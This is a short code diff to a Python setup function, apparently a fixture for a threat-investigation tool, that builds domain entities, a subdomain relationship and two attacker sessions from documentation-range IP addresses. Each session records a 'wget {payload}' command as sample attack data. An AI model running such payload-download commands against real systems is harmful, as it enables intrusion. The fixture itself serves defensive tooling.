@@ -28,8 +28,8 @@ def new_world(api: Api) -> World:
     with workshop.writer() as writer:
         near, far = writer.entity("domain", above), writer.entity("domain", below)
         relationship = str(writer.relationship(far, "SUBDOMAIN_OF", near))
-        for address in ("198.51.100.71", "198.51.100.72"):
-            attack = str(writer.session(address, commands=(f"wget {payload}",)))
+        writer.session("198.51.100.71", commands=(f"wget {payload}",))
+        attack = str(writer.session("198.51.100.72", commands=(f"wget {payload}",)))
     case, campaign = workshop.thing("investigation_id"), workshop.thing("campaign_id")
     analysis = workshop.thing("analysis_id")
     workshop.thing("job_id")
